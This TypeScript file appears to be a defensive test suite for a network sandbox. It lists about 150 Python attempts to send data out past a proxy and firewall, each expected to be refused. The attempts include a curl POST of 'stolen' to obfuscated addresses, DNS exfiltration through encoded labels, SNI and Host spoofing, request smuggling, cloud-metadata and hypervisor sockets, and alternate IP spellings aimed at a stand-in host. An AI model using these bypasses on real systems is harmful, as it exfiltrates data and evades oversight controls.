/** How an attempt has to end: refused by the server, which records it, or by the kernel, which tells nobody. */
export type RefusedBy = 'server' | 'kernel';

export interface NetworkAttack {
  readonly name: string;
  /** Python, behind the prelude. */
  readonly code: string;
  readonly by: RefusedBy;
}

/** What every attempt can use. `denied.example` is 1.2.9.9, where a listener waits for a byte. */
export const PRELUDE = `
import socket, struct, ssl, sys, os
socket.setdefaulttimeout(4)
PROXY = ('127.0.0.1', 3128)
DATA = b'stolen'
def tcp(host, port, *data, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(4); s.connect((host, port))
    for part in data: s.sendall(part)
    return s
def read(s):
    try:
        got = b''
        while len(got) < 65536:
            part = s.recv(4096)
            if not part: break
            got += part
        return got
    except Exception as e: return got
def http(port, *data):
    s = tcp(socket.gethostbyname('plain.example'), port, *data); s.shutdown(socket.SHUT_WR); print(read(s)); 
def proxy(*data):
    s = tcp(*PROXY, *data); s.shutdown(socket.SHUT_WR); print(read(s))
def connect(authority, data=DATA):
    s = tcp(*PROXY, b'CONNECT ' + authority + b' HTTP/1.1\\r\\nHost: ' + authority + b'\\r\\n\\r\\n'); print(s.recv(4096)); s.sendall(data); print(read(s))
def get(url, host=None):
    proxy(b'GET ' + url + b' HTTP/1.1\\r\\nHost: ' + (host or url[7:].split(b'/')[0]) + b'\\r\\nConnection: close\\r\\n\\r\\n')
def socks(request, method=b'\\x05\\x01\\x00'):
    s = tcp(*PROXY, method); s.recv(2); s.sendall(request); print(s.recv(32)); s.sendall(DATA); print(read(s))
def socks_name(name, port=443): socks(b'\\x05\\x01\\x00\\x03' + bytes([len(name)]) + name + struct.pack('>H', port))
def question(name, type=1, cls=1, count=1, flags=0x0100):
    labels = b''.join(bytes([len(l)]) + l for l in name.split(b'.') if l)
    return struct.pack('>6H', 7, flags, count, 0, 0, 0) + labels + b'\\0' + struct.pack('>HH', type, cls)
def ask(packet):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(packet, ('127.0.0.1', 53)); print(s.recv(4096))
def ask_tcp(packet):
    s = tcp('127.0.0.1', 53, struct.pack('>H', len(packet)) + packet); print(s.recv(4096))
def names(name): return b'' if name is None else struct.pack('>HHHBH', 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
def hello(*extensions, version=b'\\x03\\x03'):
    ext = b''.join(extensions)
    body = b'\\x03\\x03' + b'r' * 32 + b'\\0' + b'\\0\\x02\\x13\\x01' + b'\\x01\\0' + struct.pack('>H', len(ext)) + ext
    return b'\\x01' + len(body).to_bytes(3, 'big') + body
def record(handshake, size=None):
    size = size or len(handshake); out = b''
    for at in range(0, len(handshake), size):
        part = handshake[at:at + size]; out += b'\\x16\\x03\\x01' + struct.pack('>H', len(part)) + part
    return out
def tls(*data, port=443):
    s = tcp(socket.gethostbyname('safe.example'), port)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for part in data: s.sendall(part)
    print(read(s))
`;

const H11 = (host: string, path = '/'): string =>
  `b'GET ${path} HTTP/1.1\\r\\nHost: ${host}\\r\\nConnection: close\\r\\n\\r\\n'`;
const server = (name: string, code: string): NetworkAttack => ({ name, code, by: 'server' });
const kernel = (name: string, code: string): NetworkAttack => ({ name, code, by: 'kernel' });

const SPELLINGS: readonly (readonly [name: string, host: string])[] = [
  ['dotted', '1.2.9.9'],
  ['decimal', '16910601'],
  ['octal', '01.02.011.011'],
  ['hexadecimal', '0x1020909'],
  ['short', '1.2.2313'],
  ['mapped', '[::ffff:1.2.9.9]'],
  ['compatible', '[::1.2.9.9]'],
  ['translated', '[64:ff9b::102:909]'],
  ['tunnelled', '[2002:102:909::1]'],
  ['the name', 'denied.example'],
  ['the name in capitals', 'DENIED.EXAMPLE'],
  ['the name with a dot', 'denied.example.'],
  ['a user before it', 'plain.example@denied.example'],
  ['a zone', '[fe80::1%25lo]'],
  ['an encoded dot', 'denied%2eexample'],
  ['wide digits', '\\xef\\xbc\\x91.2.9.9'],
  ['an ideographic dot', 'denied\\xe3\\x80\\x82example'],
  ['a null', 'plain.example\\0.denied.example'],
];

const ADDRESSED = [
  'meta',
  'private',
  'cgnat',
  'here',
  'zero',
  'multi',
  'docs',
  'azure',
  'six',
  'unique',
  'mapped',
  'own',
];

export const NETWORK_ATTACKS: readonly NetworkAttack[] = [
  ...SPELLINGS.map(([name, host]) => server(`CONNECT, ${name}`, `connect(b'${host}:443')`)),
  ...SPELLINGS.slice(0, 12).map(([name, host]) =>
    server(`absolute form, ${name}`, `get(b'http://${host}/')`),
  ),
  server('CONNECT without a port', "connect(b'denied.example')"),
  server('CONNECT to port 0', "connect(b'plain.example:0')"),
  server('CONNECT to port 65536', "connect(b'plain.example:65536')"),
  server('CONNECT to ssh of a listed host', "connect(b'plain.example:22')"),
  server('CONNECT to another port of a listed host', "connect(b'plain.example:8443')"),
  server('CONNECT to the proxy itself', "connect(b'127.0.0.1:3128')"),
  server('CONNECT to localhost', "connect(b'localhost:80')"),
  server('CONNECT, then another Host', `connect(b'plain.example:80', ${H11('denied.example')})`),
  server(
    'CONNECT, then another name in the handshake',
    "connect(b'safe.example:443', record(hello(names(b'denied.example'))))",
  ),
  server(
    'CONNECT within CONNECT',
    "connect(b'plain.example:80', b'CONNECT denied.example:443 HTTP/1.1\\r\\nHost: denied.example:443\\r\\n\\r\\n')",
  ),
  server('absolute form with another Host', "get(b'http://plain.example/', b'denied.example')"),
  server('absolute form, denied, behind a listed Host', "get(b'http://denied.example/', b'plain.example')"),
  server('no absolute form at the proxy', `proxy(${H11('denied.example')})`),
  server('SOCKS with an address', "socks(b'\\x05\\x01\\x00\\x01\\x01\\x02\\x09\\x09\\x01\\xbb')"),
  server(
    'SOCKS with a mapped address',
    "socks(b'\\x05\\x01\\x00\\x04' + b'\\0' * 10 + b'\\xff\\xff\\x01\\x02\\x09\\x09\\x01\\xbb')",
  ),
  server('SOCKS with a denied name', "socks_name(b'denied.example')"),
  server('SOCKS with a decimal address as name', "socks_name(b'16910601')"),
  server('SOCKS with an empty name', "socks_name(b'')"),
  server('SOCKS with a null in the name', "socks_name(b'plain.example\\0.denied.example')"),
  server('SOCKS to ssh', "socks_name(b'plain.example', 22)"),
  server('SOCKS to port 0', "socks_name(b'plain.example', 0)"),
  kernel('SOCKS bind', "socks(b'\\x05\\x02\\x00\\x01\\x01\\x02\\x09\\x09\\x01\\xbb')"),
  kernel('SOCKS over UDP', "socks(b'\\x05\\x03\\x00\\x01\\x01\\x02\\x09\\x09\\x01\\xbb')"),
  kernel('SOCKS 4', "proxy(b'\\x04\\x01\\x01\\xbb\\x01\\x02\\x09\\x09\\0')"),
  kernel('SOCKS with a password', "socks(b'', b'\\x05\\x01\\x02')"),
  server('a denied name', "socket.gethostbyname('denied.example')"),
  server('data in a name', "socket.gethostbyname('c3RvbGVu.denied.example')"),
  server('a name below a listed one', "socket.gethostbyname('x.plain.example')"),
  server('a listed name below another one', "socket.gethostbyname('plain.example.denied.example')"),
  server('a name that ends as a listed one', "socket.gethostbyname('notplain.example')"),
  server('the name above the star', "ask(question(b'star.example'))"),
  server('a denied name below the star', "ask(question(b'no.star.example'))"),
  server(
    'a dot within a label',
    "ask(struct.pack('>6H',7,256,1,0,0,0) + b'\\x0dplain.example\\0' + struct.pack('>HH',1,1))",
  ),
  server('a denied name, type TXT', "ask(question(b'c3RvbGVu.denied.example', 16))"),
  server('a denied name, type ANY', "ask(question(b'denied.example', 255))"),
  server('a denied name, type SRV', "ask(question(b'_x._tcp.denied.example', 33))"),
  server('a denied name, type NULL', "ask(question(b'denied.example', 10))"),
  server('a denied name over TCP', "ask_tcp(question(b'denied.example'))"),
  server('a zone transfer', "ask_tcp(question(b'denied.example', 252))"),
  kernel('a question of another class', "ask(question(b'denied.example', 1, 3))"),
  kernel('two questions', "ask(question(b'plain.example', 1, 1, 2) + question(b'denied.example')[12:])"),
  kernel('an update', "ask(question(b'denied.example', 6, 1, 1, 0x2800))"),
  kernel('an answer in place of a question', "ask(question(b'denied.example', 1, 1, 1, 0x8180))"),
  kernel(
    'a name that points at itself',
    "ask(struct.pack('>6H',7,256,1,0,0,0) + b'\\xc0\\x0c' + struct.pack('>HH',1,1))",
  ),
  kernel(
    'another name server',
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(question(b'denied.example'), ('1.2.9.9', 53))",
  ),
  server('another Host', `http(80, ${H11('denied.example')})`),
  server(
    'another Host with the next request',
    `http(80, b'GET / HTTP/1.1\\r\\nHost: plain.example\\r\\n\\r\\n' + ${H11('denied.example')})`,
  ),
  server('no Host', "http(80, b'GET / HTTP/1.0\\r\\n\\r\\n')"),
  server(
    'two Hosts',
    "http(80, b'GET / HTTP/1.0\\r\\nHost: plain.example\\r\\nHost: denied.example\\r\\n\\r\\n')",
  ),
  server('a Host with a user', `http(80, ${H11('plain.example@denied.example')})`),
  server('a Host with another port', `http(80, ${H11('plain.example:8443')})`),
  server('an address as Host', `http(80, ${H11('1.2.9.9')})`),
  server(
    'an absolute address behind the right Host',
    `http(80, ${H11('plain.example', 'http://denied.example/')})`,
  ),
  server(
    'CONNECT at a web port',
    "http(80, b'CONNECT denied.example:443 HTTP/1.1\\r\\nHost: plain.example\\r\\n\\r\\n')",
  ),
  server(
    'an upgrade to another Host',
    "http(80, b'GET / HTTP/1.1\\r\\nHost: denied.example\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n')",
  ),
  server(
    'a request within the body of another, by two lengths',
    `http(80, b'POST / HTTP/1.1\\r\\nHost: plain.example\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n' + ${H11('denied.example')})`,
  ),
  kernel('a preface of HTTP/2', "http(80, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + DATA)"),
  kernel('a folded Host', "http(80, b'GET / HTTP/1.1\\r\\nHost:\\r\\n denied.example\\r\\n\\r\\n')"),
  server('another name in the handshake', "tls(record(hello(names(b'denied.example'))), DATA)"),
  server('no name in the handshake', 'tls(record(hello()), DATA)'),
  server(
    'two names in one extension',
    "n = b'\\0\\0\\x0csafe.example' + b'\\0\\0\\x0edenied.example'; tls(record(hello(struct.pack('>HHH', 0, len(n) + 2, len(n)) + n)), DATA)",
  ),
  server(
    'two extensions with names',
    "tls(record(hello(names(b'safe.example'), names(b'denied.example'))), DATA)",
  ),
  server(
    'a null in the name of the handshake',
    "tls(record(hello(names(b'safe.example\\0.denied.example'))), DATA)",
  ),
  server(
    'another name, a byte at a time',
    "tls(*[bytes([b]) for b in record(hello(names(b'denied.example')))], DATA)",
  ),
  server('another name, over many records', "tls(record(hello(names(b'denied.example')), 5), DATA)"),
  server('an address as name', "tls(record(hello(names(b'1.2.9.9'))), DATA)"),
  server('no handshake at a TLS port', `tls(${H11('denied.example')})`),
  server('the handshake of SSL 2', "tls(b'\\x80\\x2e\\x01\\0\\x02' + DATA * 10)"),
  server('a listed host at the port of another', 'tls(DATA, port=80)'),
  server('ssh of a listed host', 'tls(DATA, port=22)'),
  server(
    'another name at an odd port',
    "s = tcp(socket.gethostbyname('odd.example'), 8443, record(hello(names(b'denied.example'))), DATA); print(read(s))",
  ),
  server(
    'another Host at an odd port',
    `s = tcp(socket.gethostbyname('odd.example'), 8443, ${H11('denied.example')}); print(read(s))`,
  ),
  server(
    'a web port of a host that is listed with another',
    "s = tcp(socket.gethostbyname('odd.example'), 443, DATA); print(read(s))",
  ),
  server('an address that no name has', "s = tcp('127.99.0.1', 443, DATA); print(read(s))"),
  server('a web port of the own loopback', "s = tcp('127.0.0.1', 80, DATA); print(read(s))"),
  ...ADDRESSED.map((name) =>
    server(
      `a listed name whose address is not public: ${name}`,
      `connect(b'${name}.example:443', record(hello(names(b'${name}.example'))))`,
    ),
  ),
  server(
    'a name whose address changes',
    "[connect(b'moving.example:80', b'GET / HTTP/1.1\\r\\nHost: moving.example\\r\\nConnection: close\\r\\n\\r\\n') for _ in range(2)]",
  ),
  ...[80, 443, 22, 8443].map((port) =>
    kernel(`the address itself, port ${port}`, `tcp('1.2.9.9', ${port}, DATA)`),
  ),
  kernel(
    'an address in another spelling',
    "os.system('curl -sS -m 3 -d stolen http://16910601/ http://0x1020909/ http://1.2.2313/ http://01.02.011.011/')",
  ),
  kernel(
    'a datagram',
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(DATA, ('1.2.9.9', 443))",
  ),
  kernel(
    'QUIC of a listed host',
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.connect((socket.gethostbyname('safe.example'), 443)); s.send(DATA); s.send(DATA)",
  ),
  kernel('IPv6', "tcp('2606:4700::1', 443, DATA, family=socket.AF_INET6)"),
  kernel('IPv6 of the own loopback', "tcp('::1', 443, DATA, family=socket.AF_INET6)"),
  kernel('a link-local address', "tcp('169.254.169.254', 80, DATA)"),
  kernel('a listener of this machine', "tcp('127.0.0.1', int(os.environ['HOST_PORT']), DATA)"),
  kernel('a raw socket', 'socket.socket(socket.AF_INET, socket.SOCK_RAW, 6)'),
  kernel('a packet socket', 'socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'),
  kernel(
    'a socket to the hypervisor',
    'socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, 1024))',
  ),
  kernel(
    'an abstract socket of this machine',
    "s = socket.socket(socket.AF_UNIX); s.connect('\\0castellan-attack'); s.sendall(DATA)",
  ),
  kernel(
    'taking the port of names',
    "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(('127.0.0.1', 53))",
  ),
  kernel('taking a web port', "socket.socket().bind((socket.gethostbyname('safe.example'), 443))"),
  kernel('taking the port of the proxy', "socket.socket().bind(('127.0.0.1', 3128))"),
  kernel(
    'another network of its own',
    "os.unshare(0x40000000) if hasattr(os, 'unshare') else sys.exit('no unshare')",
  ),
];
